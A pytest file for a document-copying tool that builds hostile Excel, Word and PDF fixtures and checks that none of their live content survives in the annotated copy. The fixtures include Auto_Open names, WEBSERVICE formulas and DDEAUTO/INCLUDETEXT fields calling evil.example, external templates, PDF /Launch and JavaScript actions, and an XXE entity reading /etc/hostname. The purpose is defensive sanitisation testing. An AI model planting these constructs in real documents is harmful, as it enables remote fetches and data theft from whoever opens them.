"""What a hostile file carries does not survive in the copy, and nothing of ours becomes a formula."""

import io
import re
import zipfile

import pytest

from scoring.recheck.annotate import annotate
from scoring.recheck.one import check_file
from tests.readers.making import repacked
from tests.recheck.annotating import checked, pdf_notes, planted, word_comments, workbook

RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "file://evil.example/share"


def parts(path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def added(path, extra: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "a") as archive:
        for name, content in extra.items():
            archive.writestr(name, content)


def link(kind: str, target: str, id_: str, outside: bool) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="{id_}" Type="{RELATED}/{kind}" Target="{target}"{mode}/></Relationships>'.encode()


def before(mark: str, more: bytes):
    return lambda data: data.replace(mark.encode(), more + mark.encode(), 1)


@pytest.fixture
def evil_xlsx(tmp_path):
    """A workbook with macros, a link to another workbook, formulas, a web link, a name, a list that leads out."""
    path = planted(tmp_path, "xlsx")
    sheet = "xl/worksheets/sheet1.xml"
    book = "xl/workbook.xml"
    repacked(
        path,
        path,
        {
            book: lambda d: re.sub(
                rb"<definedNames>.*</definedNames>|(?=</workbook>)",
                f'<externalReferences><externalReference xmlns:r="{RELATED}" r:id="rIdX"/></externalReferences>'
                f"<definedNames><definedName name=\"Auto_Open\">'[{EVIL}]S'!$A$1</definedName></definedNames>".encode(),
                d,
                count=1,
            ),
            "xl/_rels/workbook.xml.rels": before(
                "</Relationships>", link("externalLink", "externalLinks/externalLink1.xml", "rIdX", False)[:-16]
            ),
            sheet: lambda d: before(
                "<pageMargins",
                f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("{EVIL}")'
                f'</formula></cfRule></conditionalFormatting><dataValidations count="1"><dataValidation type="list" sqref="A1">'
                f'<formula1>"{EVIL}"</formula1></dataValidation></dataValidations>'
                f'<hyperlinks><hyperlink xmlns:r="{RELATED}" ref="A1:XFD1048576" r:id="rIdH"/></hyperlinks>'.encode(),
            )(d.replace(b'<c r="F6" s="6">', f'<c r="F6" s="6"><f>HYPERLINK("{EVIL}")</f>'.encode())),
        },
    )  # fmt: skip
    added(
        path,
        {
            "xl/vbaProject.bin": b"macro",
            "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
            "xl/worksheets/_rels/sheet1.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + link("hyperlink", EVIL, "rIdH", True),
            "xl/media/image1.png": b"PNG",
        },
    )
    assert b"<f>HYPERLINK" in parts(path)[sheet]
    return path


def test_nothing_live_survives_in_a_workbook(evil_xlsx, tmp_path):
    copy = annotate(evil_xlsx, checked(evil_xlsx), tmp_path / "out", "自评表.xlsm")
    assert copy.name == "自评表.xlsm.复核副本.xlsx"
    inside = parts(copy)
    assert not [name for name in inside if "vba" in name.lower() or "external" in name.lower() or "media" in name]
    everything = b"".join(inside.values())
    for word in (
        b"evil.example",
        b"HYPERLINK",
        b"<f>",
        b"WEBSERVICE",
        b"Auto_Open",
        b'TargetMode="External"',
        b"macroEnabled",
    ):
        assert word not in everything, word
    said = "".join(str(row[0].value) for row in workbook(copy).worksheets[0].iter_rows(max_row=8))
    assert "宏" in said and "外部链接" in said and "图片" in said


def test_what_looks_like_a_formula_stays_text(tmp_path):
    path = planted(tmp_path, "xlsx")
    records = checked(path)
    for found in records[0]["findings"]:
        found["message"] = '=HYPERLINK("x")'
        found["clause"] = "@SUM(A1)"
        found["claimed"] = "+1+2"
    records[0]["project"]["name"] = "=1+1"
    copy = annotate(path, records, tmp_path / "out", "=1+1.xlsx")
    book = workbook(copy)
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value}
    assert "f" not in kinds
    assert "=4次" in [cell.value for row in book.worksheets[1].iter_rows() for cell in row]
    assert b"<f>" not in b"".join(parts(copy).values())


def test_control_characters_and_markup_are_only_text(tmp_path):
    for suffix in ("xlsx", "docx", "pdf", "html"):
        path = planted(tmp_path / suffix, suffix)
        records = checked(path)
        bad = "坏\x00\x0b\x1b\ud800\ufffe<w:p>&]]>"
        for found in records[0]["findings"]:
            found["message"] = bad
        records[0]["project"]["name"] = records[0]["file"] = bad
        copy = annotate(path, records, tmp_path / "out", path.name)
        if suffix == "docx":
            texts = list(word_comments(copy).values())
        elif suffix == "pdf":
            texts = list(pdf_notes(copy).values())
        else:
            texts = [c.comment.text for s in workbook(copy) for row in s.iter_rows() for c in row if c.comment]
        assert any("<w:p>&]]>" in text for text in texts)
        assert all(c.isprintable() or c.isspace() for text in texts for c in text)


def test_merges_over_a_whole_sheet_cost_nothing(tmp_path):
    path = planted(tmp_path, "xlsx")
    sheet = "xl/worksheets/sheet1.xml"
    repacked(path, path, {sheet: lambda d: before("</mergeCells>", b'<mergeCell ref="A60:XFD1048576"/>')(d)})
    assert annotate(path, checked(path), tmp_path / "out", "自评表.xlsx").is_file()


def test_a_workbook_that_cannot_be_opened_for_writing_is_drawn_anew(tmp_path):
    path = planted(tmp_path, "xlsx")
    repacked(path, path, {"xl/styles.xml": lambda d: d.replace(b'patternType="gray125"', b'patternType="strange"')})
    records = check_file(path)
    assert records[0]["status"] != "unreadable", "the reader still reads it"
    copy = annotate(path, records, tmp_path / "out", "自评表.xlsx")
    texts = [c.comment.text for s in workbook(copy) for row in s.iter_rows() for c in row if c.comment]
    assert any("F02" in text for text in texts)


def test_entities_are_never_expanded(tmp_path):
    path = planted(tmp_path, "xlsx")
    entity = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><a>&e;</a>'
    added(path, {"xl/customXml/item1.xml": entity})
    copy = annotate(path, checked(path), tmp_path / "out", "自评表.xlsx")
    assert copy and not [name for name, content in parts(copy).items() if b"ENTITY" in content or "custom" in name]


@pytest.fixture
def evil_docx(tmp_path):
    """A macro document with an outside template, a linked picture, an embedded object and a field that loads."""
    path = planted(tmp_path, "docx")
    field = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "{EVIL}"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>旧结果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        f'<w:fldSimple w:instr="DDEAUTO {EVIL}"><w:r><w:t>简域</w:t></w:r></w:fldSimple>'
        f'<w:hyperlink xmlns:r="{RELATED}" r:id="rIdL"><w:r><w:t>链接字</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office">'
        f'<o:OLEObject xmlns:r="{RELATED}" Type="Embed" ProgID="Package" r:id="rIdO"/></w:object></w:r></w:p>'
    )
    head = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    more = b"".join(
        link(*each)[:-16]
        for each in (
            ("hyperlink", EVIL, "rIdL", True), ("oleObject", "embeddings/o.bin", "rIdO", False),
        )
    )  # fmt: skip
    relations = "word/_rels/document.xml.rels"
    repacked(
        path,
        path,
        {
            "word/document.xml": before("<w:sectPr", field.encode()),
            "word/settings.xml": before(
                "<w:characterSpacing", f'<w:attachedTemplate xmlns:r="{RELATED}" r:id="rIdT"/>'.encode()
            ),
            relations: before("</Relationships>", more + b'<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'),
            "[Content_Types].xml": lambda d: before("</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')(
                d.replace(b"vnd.openxmlformats-officedocument.wordprocessingml.document.main", b"vnd.ms-word.document.macroEnabled.main")),
        },
    )  # fmt: skip
    added(
        path,
        {
            "word/_rels/settings.xml.rels": head + link("attachedTemplate", EVIL, "rIdT", True),
            "word/vbaProject.bin": b"macro",
            "word/embeddings/o.bin": b"object",
        },
    )
    return path


def test_nothing_live_survives_in_a_document(evil_docx, tmp_path):
    assert b"macroEnabled" in parts(evil_docx)["[Content_Types].xml"]
    copy = annotate(evil_docx, checked(evil_docx), tmp_path / "out", "自评表.docm")
    assert copy.name == "自评表.docm.复核副本.docx"
    inside = parts(copy)
    assert not [name for name in inside if name.endswith(".bin")]
    everything = b"".join(inside.values())
    for word in (
        b"evil.example",
        b"INCLUDETEXT",
        b"DDEAUTO",
        b"attachedTemplate",
        b"OLEObject",
        b"External",
        b"macroEnabled",
    ):
        assert word not in everything, word
    body = inside["word/document.xml"].decode()
    assert all(kept in body for kept in ("旧结果", "简域", "链接字"))
    known = set(re.findall(r'Id="(\w+)"', inside["word/_rels/document.xml.rels"].decode()))
    assert set(re.findall(r'r:id="(\w+)"', body)) <= known, "Word calls a file damaged whose link leads nowhere"
    assert b"w:date" not in inside["word/comments.xml"], "no clock in a copy"
    comments = word_comments(copy)
    assert any("F02" in text for text in comments.values())
    assert any("宏" in text and "外部模板" in text and "嵌入对象" in text for text in comments.values())


def test_a_part_is_cleaned_whatever_it_is_called_and_however_often_it_is_named(evil_docx, evil_xlsx, tmp_path):
    head = f'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:instrText>DDE {EVIL}</w:instrText></w:r></w:p></w:hdr>'
    both = b"".join(link(kind, "h.bin", f"rId{kind}", False)[:-16] for kind in ("image", "header"))
    repacked(evil_docx, evil_docx, {"word/_rels/document.xml.rels": before("</Relationships>", both)})
    added(evil_docx, {"word/h.bin": head.encode()})
    book = link("theme", "workbook.xml", "rIdB", False)[:-16]
    repacked(evil_xlsx, evil_xlsx, {"xl/_rels/workbook.xml.rels": before("</Relationships>", book)})
    for path in (evil_docx, evil_xlsx):
        copy = annotate(path, checked(path), tmp_path / "out", path.name)
        assert b"evil.example" not in b"".join(parts(copy).values())


def test_nothing_live_survives_in_a_pdf(tmp_path):
    import pypdf
    from pypdf.annotations import Link
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = pypdf.PdfWriter(clone_from=planted(tmp_path, "pdf"))
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("evil.exe")})
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("evil()")}
    )
    writer.root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): script})
    writer.add_attachment("evil.exe", b"MZ evil")
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    writer.add_annotation(0, Link(rect=(50, 50, 90, 90), url="http://evil.example/"))
    writer.root_object[NameObject("/OpenAction")] = action
    path = tmp_path / "坏.pdf"
    writer.write(path)
    copy = annotate(path, checked(path), tmp_path / "out", "坏.pdf")
    reader = pypdf.PdfReader(copy)
    assert set(reader.root_object) <= {"/Type", "/Pages"} and reader.attachments == {}
    assert "/AA" not in reader.pages[0]
    assert {annotation.get_object()["/Subtype"] for annotation in reader.pages[0]["/Annots"]} == {"/Highlight", "/Text"}
    plain = io.BytesIO()
    pypdf.PdfWriter(clone_from=copy).write(plain)
    for word in (b"evil", b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/URI"):
        assert word not in plain.getvalue() and word not in copy.read_bytes(), word
